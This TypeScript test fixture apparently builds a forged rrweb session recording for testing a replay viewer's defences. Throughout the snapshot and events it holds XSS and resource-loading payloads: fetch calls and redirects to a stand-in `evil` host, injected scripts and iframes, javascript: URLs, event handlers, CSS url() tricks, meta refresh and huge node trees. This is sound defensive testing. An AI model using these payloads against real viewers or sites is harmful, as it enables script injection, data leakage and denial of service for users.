// A recording that somebody forged with the public write key (reliability.md, check 44): everything in it tries to run, to fetch
// from `evil`, or to break the viewer.
export interface Piece {
  v: 1;
  session: string;
  document: string;
  tab: string;
  device: string;
  seq: number;
  t0: number;
  t1: number;
  sent_at: number;
  profile: { level: string; hash: string; recorder: string };
  events: unknown[];
}

type Node = Record<string, unknown>;

let lastId = 10;
const element = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Node[] = [], more: Node = {}): Node => ({ type: 2, id: (lastId += 1), tagName, attributes, childNodes, ...more });
const text = (textContent: string, more: Node = {}): Node => ({ type: 3, id: (lastId += 1), textContent, ...more });
const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Node[] = []): Node => element(tagName, attributes, childNodes, { isSVG: true });

/** `depth` is how deep elements lie in each other at one place: more than any page has, unless said otherwise. */
export function hostilePieces(evil: string, session: string, start: number, depth = 500): Piece[] {
  const style = `@import url(${evil}/import.css); @import "${evil}/import2.css"; @font-face { font-family: x; src: url(${evil}/font.woff2) } body { font-family: x; background: url("${evil}/css.png") } .a { background: u\\72l(${evil}/escaped.png) } .b { background-image: image-set("${evil}/set.png" 1x) } .c::before { content: url(${evil}/content.png) } .d { cursor: url(${evil}/cursor.cur), auto; filter: url(${evil}/filter.svg#f); mask: url(${evil}/mask.svg#m) } .e { background: url(/api/me?css) }`;
  const run = `fetch('${evil}/ran'); parent.document.title = 'PWNED'; top.location = '${evil}/top'`;
  const deep = Array.from({ length: depth }).reduce<Node>((inside) => element("div", {}, [inside]), text("deep"));
  const body: Node[] = [
    element("h1", {}, [text("A page like any other")]),
    element("img", { src: `${evil}/img.png`, srcset: `${evil}/srcset.png 2x`, onerror: run }),
    element("img", { src: "/api/me?img" }),
    element("img", { src: "x", onload: run, onerror: run }),
    element("picture", {}, [element("source", { srcset: `${evil}/picture.png` }), element("img", { src: `${evil}/picture2.png` })]),
    element("script", { src: `${evil}/script.js` }, [text(run)]),
    element("iframe", { src: `${evil}/frame.html` }),
    element("iframe", { src: `javascript:${run}` }),
    element("iframe", { srcdoc: `<script>${run}</script><img src="${evil}/srcdoc.png">` }),
    element("iframe", { src: "/p/1/recordings" }),
    element("object", { data: `${evil}/object.swf` }),
    element("embed", { src: `${evil}/embed.swf` }),
    element("video", { src: `${evil}/video.mp4`, poster: `${evil}/poster.png`, autoplay: true, rr_mediaState: "played" }),
    element("audio", { src: `${evil}/audio.mp3`, autoplay: true }, [element("source", { src: `${evil}/source.mp3` }), element("track", { src: `${evil}/track.vtt` })]),
    element("a", { href: `javascript:${run}`, ping: `${evil}/ping` }, [text("link")]),
    element("form", { action: `${evil}/form` }, [element("input", { type: "image", src: `${evil}/input.png` }), element("button", { formaction: `javascript:${run}`, autofocus: true, onfocus: run })]),
    svg("svg", { onload: run }, [svg("script", { href: `${evil}/svg.js` }, [text(run)]), svg("image", { href: `${evil}/svgimage.png` }), svg("use", { "xlink:href": `${evil}/use.svg#x` }), svg("animate", { attributeName: "href", values: `javascript:${run}` }), svg("rect", { fill: `url(${evil}/fill.svg#g)`, style: `filter:url(${evil}/inline.svg#f)` }), svg("foreignObject", {}, [element("img", { src: `${evil}/foreign.png` })])]),
    element("div", { style: `background:url(${evil}/inlinestyle.png)`, background: `${evil}/background.png`, class: "a b c d e" }, [text("styled")]),
    element("table", { background: `${evil}/table.png` }),
    element("canvas", { rr_dataURL: `${evil}/canvas.png` }),
    element("img", { rr_dataURL: `${evil}/dataurl.png` }),
    element("xmp", {}, [text(`<img src=${evil}/xmp.png onerror="${run}">`)]),
    element("noscript", {}, [text(`<img src=${evil}/noscript.png>`)]),
    element("input", { type: "text", value: "<script>" }, [], { isShadowHost: true }),
    element("x-", {}, [], { isCustom: true }),
    element("font-face", {}, [], { isCustom: true }),
    element("not a tag", {}, []),
    element("dialog", { open: "", rr_open_mode: "modal" }, [text("dialog")]),
    deep,
  ];
  const page: Node = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, id: 2, name: "html", publicId: `-//"><script>${run}</script>`, systemId: `${evil}/dtd` },
      {
        type: 2,
        id: 3,
        tagName: "html",
        attributes: { manifest: `${evil}/manifest`, onload: run },
        childNodes: [
          element("head", {}, [
            element("base", { href: `${evil}/` }),
            element("meta", { "http-equiv": "refresh", content: `0;url=${evil}/refresh` }),
            element("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }),
            element("link", { rel: "stylesheet", href: `${evil}/link.css` }),
            element("link", { rel: "icon", href: `${evil}/icon.png` }),
            element("link", { rel: "preload", as: "image", href: `${evil}/preload.png` }),
            element("link", { rel: "prefetch", href: `${evil}/prefetch.html` }),
            element("link", { rel: "dns-prefetch preconnect", href: evil }),
            element("link", { rel: "modulepreload", href: `${evil}/module.js` }),
            element("link", { rel: "manifest", href: `${evil}/app.webmanifest` }),
            element("style", { _cssText: style }),
            element("style", {}, [text(style, { isStyle: true })]),
          ]),
          element("body", { background: `${evil}/body.png`, onload: run }, body),
        ],
      },
    ],
  };
  const at = (ms: number) => start + ms;
  const change = (ms: number, data: Record<string, unknown>) => ({ type: 3, timestamp: at(ms), data });
  const events: unknown[] = [
    { type: 4, timestamp: at(0), data: { href: `javascript:${run}`, width: 1e9, height: 700 } },
    { type: 4, timestamp: at(1), data: { href: `${evil}/meta`, width: 1100, height: 700 } },
    { type: 2, timestamp: at(2), data: { node: page, initialOffset: { top: 0, left: 0 } } },
    change(300, { source: 2, type: 99, id: 3, x: 1, y: 1 }),
    change(310, { source: 1, positions: [] }),
    change(320, { source: 1, positions: [{ x: "a", y: null, id: {}, timeOffset: 0 }] }),
    change(330, { source: 10, family: "y", fontSource: `url(${evil}/fontface.woff2)`, buffer: false }),
    change(340, { source: 7, id: 3, type: 0, currentTime: 1 }),
    change(350, { source: 8, id: 3, adds: [{ rule: `p { background: url(${evil}/rule.png) }` }], replaceSync: `@import url(${evil}/replace.css)` }),
    change(360, { source: 13, id: 3, index: [0], set: { property: "background", value: `url(${evil}/declaration.png)` } }),
    change(370, { source: 15, id: 1, styleIds: [7], styles: [{ styleId: 7, rules: [{ rule: `h1 { background: url(${evil}/adopted.png) }` }] }] }),
    change(400, {
      source: 0,
      texts: [{ id: 4, value: `url(${evil}/text.png)` }],
      attributes: [
        { id: 3, attributes: { onclick: run, style: { background: `url(${evil}/mutstyle.png)` } } },
        { id: 12, attributes: { src: `${evil}/mutsrc.png`, srcset: `${evil}/mutset.png` } },
        { id: 3, attributes: { "http-equiv": "refresh" } },
      ],
      removes: [{ id: 99_999, parentId: 98 }],
      adds: [
        { parentId: 3, nextId: null, node: element("img", { src: `${evil}/added.png`, onerror: run }) },
        { parentId: 3, nextId: null, node: element("meta", { "http-equiv": "refresh", content: `0;url=${evil}/addedrefresh` }) },
        { parentId: 3, nextId: null, node: element("script", { src: `${evil}/added.js` }) },
        ...Array.from({ length: 30_000 }, () => ({ parentId: 3, nextId: null, node: element("p", { style: `background:url(${evil}/many.png)` }) })),
      ],
    }),
    change(500, { source: 9, id: 3, type: 0, property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: `${evil}/canvasdraw.png` }] }),
    { type: 6, timestamp: at(510), data: { plugin: "x", payload: { evil } } },
    { type: 77, timestamp: at(520), data: {} },
    { type: 3, timestamp: "soon", data: null },
    null,
    "events",
    { type: 5, timestamp: at(530), data: { tag: "signal", payload: { name: `<img src=${evil}/signal.png onerror="${run}">`, selector: `"><script>${run}</script>` } } },
    { type: 5, timestamp: at(540), data: { tag: "console", payload: { level: "error", text: `<img src=${evil}/console.png onerror="${run}">` } } },
    { type: 5, timestamp: at(550), data: { tag: "page", payload: { page: `/<img src=${evil}/page.png>` } } },
    change(3000, { source: 2, type: 2, id: 3, x: 50, y: 50 }),
  ];
  const piece = (seq: number, of: unknown[], t0: number, t1: number): Piece => ({ v: 1, session, document: "hostile001", tab: "hostiletab", device: "hostiledevice", seq, t0: at(t0), t1: at(t1), sent_at: at(t1), profile: { level: "open", hash: "hostile", recorder: "rrweb-2.1.6" }, events: of });
  return [piece(0, events, 0, 3000)];
}
